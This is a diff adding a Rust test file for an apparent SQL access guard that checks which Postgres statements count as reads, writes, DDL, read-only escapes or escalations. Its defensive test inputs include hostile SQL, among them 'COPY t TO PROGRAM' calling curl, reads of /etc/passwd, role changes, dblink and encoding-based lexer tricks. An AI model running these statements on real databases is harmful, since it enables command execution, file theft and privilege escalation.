@@ -1,0 +1,524 @@
+//! The guard's decisions, statement by statement. The e2e tests check the same routes
+//! against a real server (tests/e2e/guard.rs, tests/e2e/grammar.rs).
+
+use super::*;
+
+fn class(sql: &str) -> Class {
+    classify(sql)
+}
+
+#[test]
+fn reads() {
+    for sql in [
+        "select * from t where a = 1",
+        "SELECT count(*) FROM pg_catalog.pg_class c WHERE c.relkind = 'r'",
+        "show search_path",
+        "SELECT c.oid FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid OPERATOR(pg_catalog.=) \
+         c.relnamespace WHERE c.relkind OPERATOR(pg_catalog.=) ANY (array['r', 'S']) AND c.relname \
+         OPERATOR(pg_catalog.~) '^(items)$' COLLATE pg_catalog.default",
+        "explain select 1",
+        "explain (analyze false) delete from t",
+        "explain (analyze) select * from t",
+        "copy t to stdout",
+        "copy (select * from t) to stdout with (format csv)",
+        "TABLE t",
+        "select * from rows from (generate_series(1, 3), generate_series(1, 2)) as x(a, b)",
+        "select a from t group by distinct a",
+        "select 2 between symmetric 3 and 1",
+        "with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) search depth first by n set o select * from r",
+        "with recursive r(n) as (select 1 union all select n + 1 from r) cycle n set c using p select * from r limit 3",
+        "select xmlelement(name a, xmlattributes(1 as b)), xmlforest(1 as c), xmlparse(document '<a/>')",
+        "select concat_ws(variadic array['a', 'b'])",
+        "select U&'d!0061t!+000061' UESCAPE '!'",
+        "select 'a into b', ' into ' from t",
+        "fetch forward 10 from c",
+        "move 5 in c",
+        "close c",
+        "close all",
+        "declare c cursor for select * from t",
+        "LOCK TABLE public.items IN ACCESS SHARE MODE",
+        "SELECT pg_catalog.set_config('search_path', '', false)",
+        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
+        "select lo_get(16400)",
+        "select lo_open(16400, 262144)",
+        "select pg_sleep(0)",
+        "select query_to_xml('select * from t', true, false, '')",
+    ] {
+        assert!(
+            matches!(class(sql), Class::Read | Class::Session),
+            "{sql}: {:?}",
+            class(sql)
+        );
+        assert!(check(AccessLevel::Read, sql).is_ok(), "{sql}");
+    }
+}
+
+#[test]
+fn session_control() {
+    for sql in [
+        "begin",
+        "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE",
+        "START TRANSACTION READ ONLY, DEFERRABLE",
+        "abort",
+        "rollback",
+        "commit and chain",
+        "savepoint a",
+        "set search_path = public",
+        "SET client_encoding = 'UTF8'",
+        "set client_encoding to 'utf-8'",
+        "SET NAMES 'UTF8'",
+        "set standard_conforming_strings = on",
+        "RESET client_encoding",
+        "RESET ALL",
+        "set client_encoding to default",
+        "SET default_transaction_read_only = on",
+        "SET TRANSACTION READ ONLY",
+        "discard all",
+        "deallocate all",
+        "deallocate p",
+        "listen x",
+        "unlisten *",
+        "execute p(1)",
+        "prepare p as select 1",
+        "prepare q (int) as select * from t where a = $1",
+    ] {
+        assert!(
+            matches!(class(sql), Class::Read | Class::Session),
+            "{sql}: {:?}",
+            class(sql)
+        );
+        assert!(check(AccessLevel::Read, sql).is_ok(), "{sql}");
+    }
+}
+
+#[test]
+fn writes() {
+    for sql in [
+        "insert into t values (1)",
+        "update t set a = 1",
+        "delete from t",
+        "merge into t using s on t.a = s.a when matched then delete",
+        "select * into t2 from t",
+        "select * from t for update",
+        "select * from t for key share",
+        "with d as (delete from t returning *) select * from d",
+        "select * from (select 1) s where exists (select 1 from t for share)",
+        "explain analyze delete from t",
+        "EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 2",
+        "explain (analyze true) insert into t values (1)",
+        "explain analyze with d as (delete from t returning 1) select * from d",
+        "copy t from stdin",
+        "copy (delete from t returning *) to stdout",
+        "prepare p as delete from t",
+        "prepare p as with d as (delete from t returning 1) select 1",
+        "select lo_create(0)",
+        "select lo_unlink(16400)",
+        "select lo_put(16400, 0, 'x')",
+        "select lo_from_bytea(0, 'x')",
+        "select lo_open(16400, 131072)",
+        "select lo_open(16400, 393216)",
+        "select \"lo_unlink\"(1)",
+        "select U&\"lo\\005funlink\"(1)",
+        "select pg_catalog.lo_truncate(0, 0)",
+        "select nextval('s')",
+        "select setval('s', 1)",
+        "select pg_advisory_lock(1)",
+        "select pg_notify('c', 'x')",
+        "notify c",
+        "vacuum t",
+        "analyze t",
+        "refresh materialized view mv",
+        "LOCK TABLE items IN EXCLUSIVE MODE",
+        "call p()",
+        "prepare transaction 'x'",
+        "select query_to_xml('delete from t returning 1', true, false, '')",
+        "select query_to_xml(current_setting('x'), true, false, '')",
+    ] {
+        assert_eq!(class(sql), Class::Write, "{sql}");
+    }
+}
+
+#[test]
+fn ddl() {
+    for sql in [
+        "create table x (a int)",
+        "drop table t",
+        "truncate t",
+        "alter table t add column b int",
+        "create index on t (a)",
+        "comment on table t is 'x'",
+        "grant select on t to public",
+        "create function f() returns int language sql as 'select 1'",
+    ] {
+        assert_eq!(class(sql), Class::Ddl, "{sql}");
+    }
+}
+
+#[test]
+fn read_only_mode_cannot_be_left_under_read() {
+    let check = |sql: &str, rule: &'static str| {
+        assert_eq!(class(sql), Class::ReadOnlyEscape(rule), "{sql}");
+        let refusal = check(AccessLevel::Read, sql).expect_err(sql);
+        assert_eq!(refusal.rule, rule, "{sql}");
+        assert!(check(AccessLevel::Write, sql).is_ok(), "{sql}");
+    };
+    check(
+        "set default_transaction_read_only = off",
+        "read_only_setting",
+    );
+    check(
+        "SET SESSION default_transaction_read_only TO off",
+        "read_only_setting",
+    );
+    check("set transaction_read_only = 0", "read_only_setting");
+    check(
+        "SET \"default_transaction_read_only\" = false",
+        "read_only_setting",
+    );
+    check(
+        "select set_config('default_transaction_read_only', 'off', false)",
+        "escaping_function",
+    );
+    check(
+        "select set_config('DEFAULT_TRANSACTION_READ_ONLY'::text, 'off', false)",
+        "escaping_function",
+    );
+    check(
+        "select set_config(E'default\\x5ftransaction_read_only', 'off', false)",
+        "escaping_function",
+    );
+    check(
+        "select set_config($$transaction_read_only$$, 'off', true)",
+        "escaping_function",
+    );
+    check("select set_config(setting_name => 'transaction_read_only', new_value => 'off', is_local => true)", "escaping_function");
+    check(
+        "select \"set_config\"('transaction_read_only', 'off', true)",
+        "escaping_function",
+    );
+    check("BEGIN READ WRITE", "read_write_transaction");
+    check(
+        "start transaction isolation level serializable, read write",
+        "read_write_transaction",
+    );
+    check("SET TRANSACTION READ WRITE", "read_write_transaction");
+    check(
+        "set session characteristics as transaction read write",
+        "read_write_transaction",
+    );
+    check(
+        "declare c cursor with hold for select 1",
+        "cursor_with_hold",
+    );
+}
+
+#[test]
+fn escalations_are_named() {
+    let check =
+        |sql: &str, rule: &'static str| assert_eq!(class(sql), Class::Escalation(rule), "{sql}");
+    check("SET ROLE postgres", "role_change");
+    check("set local role postgres", "role_change");
+    check("SET SESSION AUTHORIZATION postgres", "role_change");
+    check("RESET ROLE", "role_change");
+    check(
+        "select set_config('role', 'postgres', false)",
+        "escaping_function",
+    );
+    check("ALTER SYSTEM SET work_mem = '1GB'", "alter_system");
+    check("COPY t TO PROGRAM 'curl evil'", "copy_program");
+    check("copy t from '/etc/passwd'", "copy_file");
+    check("copy t to '/tmp/x'", "copy_file");
+    check("CREATE EXTENSION dblink", "create_extension");
+    check("LOAD 'auto_explain'", "load");
+    check("DO $$ BEGIN PERFORM 1; END $$", "do_block");
+    check(
+        "select pg_catalog.pg_read_file('/etc/passwd')",
+        "escaping_function",
+    );
+    check("SELECT lo_import('/etc/passwd')", "escaping_function");
+    check("select lo_export(1, '/tmp/x')", "escaping_function");
+    check("select pg_terminate_backend(1)", "escaping_function");
+    check("select pg_reload_conf()", "escaping_function");
+    check(
+        "select * from dblink('host=x', 'delete from t') as t(a int)",
+        "escaping_function",
+    );
+    check("select public.dblink_exec('x', 'y')", "escaping_function");
+    check("create role x", "role_management");
+    check(
+        "alter role lockbox_read set default_transaction_read_only = off",
+        "role_management",
+    );
+}
+
+#[test]
+fn lexer_settings_are_refused_at_every_level_and_no_ops_allowed() {
+    for sql in [
+        "SET standard_conforming_strings = off",
+        "set session standard_conforming_strings to off",
+        "SET backslash_quote = on",
+        "SET client_encoding = 'SJIS'",
+        "SET client_encoding = 'LATIN1'",
+        "SET NAMES 'SJIS'",
+        "set local client_encoding = sjis",
+        "select set_config('standard_conforming_strings', 'off', false)",
+        "select set_config('client_encoding', 'SJIS', false)",
+        "select set_config(U&'client\\005fencoding', 'SJIS', false)",
+        "select set_config('client_encoding', lower('SJIS'), false)",
+        "create function f() returns int language sql set client_encoding = 'SJIS' as 'select 1'",
+        "alter function f() set standard_conforming_strings = off",
+        "alter database x set client_encoding = 'SJIS'",
+        "alter role x set standard_conforming_strings = off",
+        "prepare p as select set_config('client_encoding', 'SJIS', false)",
+        "update pg_settings set setting = 'off' where name = 'transaction_read_only'",
+        "select set_config(lower('ROLE'), 'postgres', false)",
+    ] {
+        assert_eq!(class(sql), Class::Forbidden("lexer_setting"), "{sql}");
+        assert!(check(AccessLevel::Admin, sql).is_err(), "{sql}");
+    }
+    for sql in [
+        "SET client_encoding = 'UTF8'",
+        "select set_config('client_encoding', 'UTF8', false)",
+        "RESET standard_conforming_strings",
+    ] {
+        assert!(check(AccessLevel::Read, sql).is_ok(), "{sql}");
+    }
+}
+
+#[test]
+fn grants() {
+    let ok = |access, sql: &str| assert!(check(access, sql).is_ok(), "{access:?} {sql}");
+    let no = |access, sql: &str, rule: &str| {
+        let refusal = check(access, sql).expect_err(sql);
+        assert_eq!(refusal.rule, rule, "{sql}");
+        assert!(refusal.message.contains(rule));
+    };
+    ok(AccessLevel::Read, "select 1");
+    no(AccessLevel::Read, "update t set a = 1", "read_only");
+    no(AccessLevel::Read, "create table x (a int)", "read_only");
+    no(AccessLevel::Read, "not sql at all", "unparsable");
+    ok(AccessLevel::Write, "update t set a = 1");
+    ok(AccessLevel::Write, "create index on t (a)");
+    no(AccessLevel::Write, "set role postgres", "role_change");
+    no(AccessLevel::Write, "not sql at all", "unparsable");
+    ok(AccessLevel::Admin, "set role postgres");
+    ok(AccessLevel::Admin, "not sql at all");
+}
+
+#[test]
+fn a_query_string_is_analysed_statement_by_statement() {
+    let sql = "select 1; /* c */ delete from t; ";
+    let all = analyze_query(sql);
+    let texts: Vec<&str> = all.iter().map(|s| &sql[s.range.clone()]).collect();
+    assert_eq!(texts, ["select 1", "/* c */ delete from t"]);
+    assert_eq!(all[0].analysis.class, Class::Read);
+    assert_eq!(all[1].analysis.class, Class::Write);
+    // A statement hidden where another lexer sees a comment is still seen.
+    let hidden = analyze_query("select 1 */* ; */ 2; delete from t");
+    assert_eq!(hidden.len(), 2);
+    assert_eq!(hidden[1].analysis.class, Class::Write);
+    // Nothing at all: one empty statement.
+    let empty = analyze_query("  -- nothing\n");
+    assert_eq!(empty.len(), 1);
+    assert_eq!(empty[0].analysis.kind, StatementKind::Empty);
+    // The grammar rejects it: one unknown statement, the whole string.
+    let rejected = analyze_query("select 1; frobnicate");
+    assert_eq!(rejected.len(), 1);
+    assert_eq!(rejected[0].range, 0..20);
+    assert_eq!(rejected[0].analysis.class, Class::Unknown);
+    // A Parse with two statements can only fail at the server.
+    assert_eq!(analyze("select 1; select 2").class, Class::Unknown);
+}
+
+#[test]
+fn kinds() {
+    let kind = |sql: &str| analyze(sql).kind;
+    assert_eq!(kind("select * from t"), StatementKind::Select);
+    assert_eq!(
+        kind("with x as (select 1) select * from x"),
+        StatementKind::Select
+    );
+    assert_eq!(kind("insert into t values (1)"), StatementKind::Insert);
+    assert_eq!(
+        kind("update t set a = 1 where b = 2"),
+        StatementKind::Update
+    );
+    assert_eq!(kind("delete from t"), StatementKind::Delete);
+    assert_eq!(kind("create table t (a int)"), StatementKind::Ddl);
+    assert_eq!(kind("begin"), StatementKind::Other);
+    assert_eq!(kind("this is not sql"), StatementKind::Unknown);
+    assert_eq!(
+        prepared_kind("PREPARE p AS DELETE FROM t"),
+        StatementKind::Delete
+    );
+    assert!(declares_held_cursor(
+        "declare c cursor with hold for select 1"
+    ));
+    assert!(!declares_held_cursor("declare c cursor for select 1"));
+}
+
+#[test]
+fn names_changes() {
+    let names = |sql: &str| analyze(sql).facts.names;
+    assert_eq!(
+        names("prepare p as select 1"),
+        Some(NameChange::Prepare("p".into()))
+    );
+    assert_eq!(
+        names("EXECUTE \"P\"(1)"),
+        Some(NameChange::Execute("P".into()))
+    );
+    assert_eq!(
+        names("explain analyze execute p"),
+        Some(NameChange::Execute("p".into()))
+    );
+    assert_eq!(
+        names("deallocate prepare p"),
+        Some(NameChange::Deallocate(Some("p".into())))
+    );
+    assert_eq!(names("deallocate all"), Some(NameChange::Deallocate(None)));
+    assert_eq!(
+        names("declare c cursor for select 1"),
+        Some(NameChange::Declare("c".into()))
+    );
+    assert_eq!(names("close all"), Some(NameChange::Close(None)));
+    assert_eq!(names("discard all"), Some(NameChange::DiscardAll));
+    assert_eq!(names("discard plans"), None);
+}
+
+#[test]
+fn database_rules() {
+    let rules = Guardrails {
+        deny_drop: true,
+        deny_truncate: true,
+        deny_delete_without_where: true,
+        deny_update_without_where: true,
+        off_limits: vec!["payroll".into(), "hr.*".into(), "audit.log".into()],
+    };
+    let check = |sql: &str, expected: Option<&str>| {
+        let got = check_rules(&rules, &analyze(sql).facts)
+            .err()
+            .map(|r| r.rule);
+        assert_eq!(got, expected, "{sql}");
+    };
+    check("drop table t", Some("deny_drop"));
+    check("truncate t", Some("deny_truncate"));
+    check("delete from t", Some("delete_without_where"));
+    check("delete from t where id = 1", None);
+    check("update t set a = 1", Some("update_without_where"));
+    check("update t set a = 1 where id = 2", None);
+    // Seen through EXPLAIN ANALYZE, CTEs, PREPARE and COPY.
+    check(
+        "explain analyze delete from t",
+        Some("delete_without_where"),
+    );
+    check(
+        "with d as (delete from t returning 1) select * from d",
+        Some("delete_without_where"),
+    );
+    check(
+        "prepare p as update t set a = 1",
+        Some("update_without_where"),
+    );
+    check("copy payroll to stdout", Some("off_limits"));
+    check("copy (select * from payroll) to stdout", Some("off_limits"));
+    check("select * from payroll", Some("off_limits"));
+    check(
+        "select * from public.payroll p join x on true",
+        Some("off_limits"),
+    );
+    check("select * from hr.salaries", Some("off_limits"));
+    check("select * from \"HR\".people", Some("off_limits"));
+    check("select * from audit.log", Some("off_limits"));
+    check("select * from audit.events", None);
+    check("select * from hrx.people", None);
+    check(
+        "select * from t where id in (select id from payroll)",
+        Some("off_limits"),
+    );
+    check(
+        "select table_to_xml('payroll', true, false, '')",
+        Some("off_limits"),
+    );
+    check(
+        "select query_to_xml('select * from payroll', true, false, '')",
+        Some("off_limits"),
+    );
+    check(
+        "select schema_to_xml('public', true, false, '')",
+        Some("off_limits"),
+    );
+    // What the rules cannot see into is refused while rules are in force.
+    check(
+        "do $$ begin delete from t; end $$",
+        Some("opaque_statement"),
+    );
+    check("call cleanup()", Some("opaque_statement"));
+    check("select public.wipe()", Some("opaque_statement"));
+    check("select my_function(1)", Some("opaque_statement"));
+    check(
+        "select lower('A'), now(), count(*) from t where id = 1",
+        None,
+    );
+    let none = Guardrails::default();
+    assert!(check_rules(&none, &analyze("drop table t").facts).is_ok());
+    assert!(check_rules(&none, &analyze("select my_function(1)").facts).is_ok());
+}
+
+#[test]
+fn settings_facts_name_what_changes() {
+    let settings = |sql: &str| analyze(sql).facts.settings.to_vec();
+    assert_eq!(settings("set statement_timeout = 0"), ["statement_timeout"]);
+    assert_eq!(
+        settings("SET LOCAL \"statement_timeout\" TO 0"),
+        ["statement_timeout"]
+    );
+    assert_eq!(
+        settings("select set_config('STATEMENT_TIMEOUT', '0', false)"),
+        ["statement_timeout"]
+    );
+    assert_eq!(settings("reset statement_timeout"), ["statement_timeout"]);
+}
+
+#[test]
+fn function_calls_by_oid() {
+    use crate::wire::ParamValue;
+    let mode = |m: i32| ParamValue::Binary(m.to_be_bytes().to_vec());
+    let oid = ParamValue::Binary(16400i32.to_be_bytes().to_vec());
+    assert_eq!(
+        function_call_class(952, &[oid.clone(), mode(0x40000)]),
+        Some(("lo_open", Class::Read))
+    );
+    assert_eq!(
+        function_call_class(952, &[oid, mode(0x60000)]),
+        Some(("lo_open", Class::Write))
+    );
+    assert_eq!(function_call_class(954, &[]), Some(("loread", Class::Read)));
+    assert_eq!(
+        function_call_class(955, &[]),
+        Some(("lowrite", Class::Write))
+    );
+    assert_eq!(
+        function_call_class(764, &[]),
+        None,
+        "lo_import is not a read"
+    );
+}
+
+#[test]
+fn read_corpus_is_allowed() {
+    let corpus = include_str!("../../tests/corpus/read_allowed.sql");
+    let statements = crate::sql::split_statements(corpus);
+    assert!(
+        statements.len() >= 45,
+        "corpus has {} statements",
+        statements.len()
+    );
+    for statement in statements {
+        let verdict = check(AccessLevel::Read, statement);
+        assert!(
+            verdict.is_ok(),
+            "refused under read: {verdict:?}\n{statement}"
+        );
+    }
+}
